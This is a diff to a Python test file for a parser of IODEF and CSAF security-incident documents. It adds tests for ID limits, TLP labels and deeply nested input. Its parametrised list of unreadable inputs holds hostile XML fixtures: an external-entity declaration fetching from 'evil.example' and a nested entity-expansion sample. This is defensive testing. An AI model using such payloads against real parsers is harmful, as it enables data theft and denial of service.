@@ -71,6 +71,16 @@ def test_purpose_status_and_restriction_of_iodef_are_shown_as_they_stand():
     }  # fmt: skip
 
 
+def test_of_many_incidents_the_first_are_named_and_each_restriction_counts():
+    one = '<Incident purpose="p{0}"><a><IncidentID>inner</IncidentID></a>{1}<IncidentID>too</IncidentID></Incident>'
+    many = "".join(one.format(place, f'<IncidentID name="n">{place}</IncidentID>' if place % 2 else "")
+                   for place in range(300))  # fmt: skip
+    stray = "</Incident><IncidentID>no</IncidentID><Other><IncidentID>no</IncidentID></Other>"
+    known = documents.recognise(iodef(inner=f'{stray}{many}<Incident restriction="red">'))
+    assert known.ids[:4] == ("csirt.example 4711", "too", "n 1", "too") and len(known.ids) == 20
+    assert known.tlp is Tlp.RED and all(len(value) <= 200 for _, value in known.said)
+
+
 @pytest.mark.parametrize("body, unclear", [
     (csaf("PURPLE"), True), (iodef(restriction="ext-value"), True), (csaf(""), False), (csaf("RED"), False),
     (csaf(distribution={"tlp": {"label": 7}}), True),
@@ -94,7 +104,7 @@ def test_a_label_we_do_not_know_is_left_to_a_person(body, unclear):
     iodef(before='<!DOCTYPE IODEF-Document [<!ENTITY % a SYSTEM "https://evil.example/x"> %a;]>'),
     iodef(before='<!DOCTYPE IODEF-Document [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>', inner="&b;"),
     iodef(before='<?xml version="1.0" encoding="no-such"?>'), iodef(before='<?xml version="1.0" encoding="UTF-16"?>'),
-    iodef(inner="\xff").decode("utf-8").encode("latin-1"),
+    iodef(inner="\xff").decode("utf-8").encode("latin-1"), iodef(inner="<a>" * 200 + "</a>" * 200),
 ])  # fmt: skip
 def test_what_says_it_is_one_and_cannot_be_read_is_left_to_a_person(body):
     known = documents.recognise(body)
